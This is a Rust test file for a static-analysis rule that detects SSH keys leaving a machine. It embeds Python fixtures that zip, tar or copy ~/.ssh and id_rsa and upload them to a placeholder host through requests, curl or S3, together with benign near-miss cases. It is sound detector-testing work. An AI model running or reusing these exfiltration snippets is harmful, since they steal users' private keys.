//! Secret files that are sent as copies, as folders and in archives.

use super::ways;

const HEAD: &str = "import io, os, shutil, subprocess, tarfile, tempfile, zipfile\nfrom pathlib import Path\n\n\
                    import boto3, requests\n\nURL = 'https://x.example.net'\n\n\n\
                    def send(data):\n    requests.post(URL, data=data)\n\n\n";

fn is_found(case: &str) -> bool {
    !ways(&[("a.py", &format!("{HEAD}{case}"))], "AL-FLOW-key-file-to-network").is_empty()
}

#[test]
fn copies_and_archives_of_keys_that_are_sent_are_found() {
    for case in SENT {
        assert!(is_found(case), "{case}");
    }
}

#[test]
fn copies_and_archives_that_are_kept_or_hold_no_secrets_raise_no_alarm() {
    for case in KEPT {
        assert!(!is_found(case), "{case}");
    }
}

const SENT: &[&str] = &[
    r#"
import subprocess

shutil.make_archive("/tmp/x", "zip", os.path.expanduser("~/.ssh"))
subprocess.run(["curl", "-F", "f=@/tmp/x.zip", URL])
"#,
    r#"
shutil.make_archive("/tmp/x", "zip", os.path.expanduser("~/.ssh"))
send(open("/tmp/x.zip", "rb"))
"#,
    r#"
shutil.make_archive("/tmp/x", "tar", os.path.expanduser("~"), ".ssh")
send(Path("/tmp/x.tar").read_bytes())
"#,
    r#"
base = os.path.join(tempfile.mkdtemp(), "x")
shutil.make_archive(base, "zip", root_dir=Path.home() / ".ssh")
send(open(f"{base}.zip", "rb").read())
"#,
    r#"
base = os.path.join(tempfile.mkdtemp(), "x")
shutil.make_archive(base, "zip", root_dir=Path.home() / ".ssh")
send(open(base + ".zip", "rb").read())
"#,
    r#"
p = shutil.make_archive("/tmp/x", "gztar", os.path.expanduser("~/.ssh"))
with open(p, "rb") as f:
    requests.post(URL, files={"f": f})
"#,
    r#"
def pack():
    return shutil.make_archive("/tmp/x", "zip", os.path.expanduser("~/.ssh"))


send(open(pack(), "rb"))
"#,
    r#"
with tarfile.open("/tmp/x.tgz", "w:gz") as t:
    t.add(os.path.expanduser("~/.ssh"))
send(open("/tmp/x.tgz", "rb"))
"#,
    r#"
tarfile.open("/tmp/x.tgz", "w").add(str(Path.home() / ".ssh"))
send(open("/tmp/x.tgz", "rb"))
"#,
    r#"
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    t.add(os.path.expanduser("~/.ssh"))
send(buf.getvalue())
"#,
    r#"
def f():
    out = os.path.join(tempfile.gettempdir(), "a.tgz")
    t = tarfile.open(out, "w:gz")
    t.add(os.path.join(os.path.expanduser("~"), ".ssh"), arcname="s")
    t.close()
    with open(out, "rb") as f:
        requests.post(URL, files={"f": f})
"#,
    r#"
shutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/c")
send(open("/tmp/c/id", "rb"))
"#,
    r#"
def f():
    to = tempfile.mkdtemp()
    shutil.copytree(os.path.expanduser("~/.ssh"), to, dirs_exist_ok=True)
    send(open(os.path.join(to, "id"), "rb"))
"#,
    r#"
shutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/c")
for root, _, files in os.walk("/tmp/c"):
    for file in files:
        send(open(os.path.join(root, file), "rb"))
"#,
    r#"
shutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/c/keys")
shutil.make_archive("/tmp/x", "zip", "/tmp/c/keys")
send(open("/tmp/x.zip", "rb"))
"#,
    r#"
shutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/c/keys")
shutil.make_archive("/tmp/x", "zip", "/tmp/c")
send(open("/tmp/x.zip", "rb"))
"#,
    r#"
def pack(out):
    with tarfile.open(out, "w:gz") as t:
        t.add(os.path.expanduser("~/.ssh"))


pack("/tmp/x.tgz")
send(open("/tmp/x.tgz", "rb"))
"#,
    r#"
shutil.make_archive("/tmp/x", "zip", os.path.expanduser("~/.ssh"))
boto3.client("s3").upload_file("/tmp/x.zip", "b", "k")
"#,
    r#"
with zipfile.ZipFile("/tmp/x.zip", "w") as z:
    for root, _, files in os.walk(os.path.expanduser("~/.ssh")):
        for file in files:
            z.write(os.path.join(root, file))
send(open("/tmp/x.zip", "rb"))
"#,
    r#"
def f():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name in ("id_rsa", "config"):
            z.write(os.path.expanduser("~/.ssh/" + name), name)
    buf.seek(0)
    requests.post(URL, files={"f": buf})
"#,
    r#"
with zipfile.ZipFile("/tmp/x.zip", "w") as z:
    z.writestr("k", open(os.path.expanduser("~/.ssh/id_rsa")).read())
send(open("/tmp/x.zip", "rb"))
"#,
];

const KEPT: &[&str] = &[
    r#"
with tarfile.open("/tmp/x.tgz", "w:gz") as t:
    t.add(os.path.expanduser("~/.ssh"))
"#,
    r#"
shutil.make_archive("/tmp/x", "zip", "dist")
send(open("/tmp/x.zip", "rb"))
"#,
    r#"
shutil.make_archive("/tmp/x", "zip", os.path.expanduser("~/.ssh"))
send(open("/tmp/y.zip", "rb"))
"#,
    r#"
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.write("report.csv")
kept = io.BytesIO()
with zipfile.ZipFile(kept, "w") as z2:
    z2.write(os.path.expanduser("~/.ssh/id_rsa"))
send(buf.getvalue())
"#,
    r#"
shutil.copytree("docs", "/tmp/c")
send(open("/tmp/c/index.html", "rb"))
shutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/d")
"#,
    r#"
shutil.make_archive("/tmp/x", "zip", "dist")
boto3.client("s3").upload_file("/tmp/x.zip", "b", "k")
"#,
];
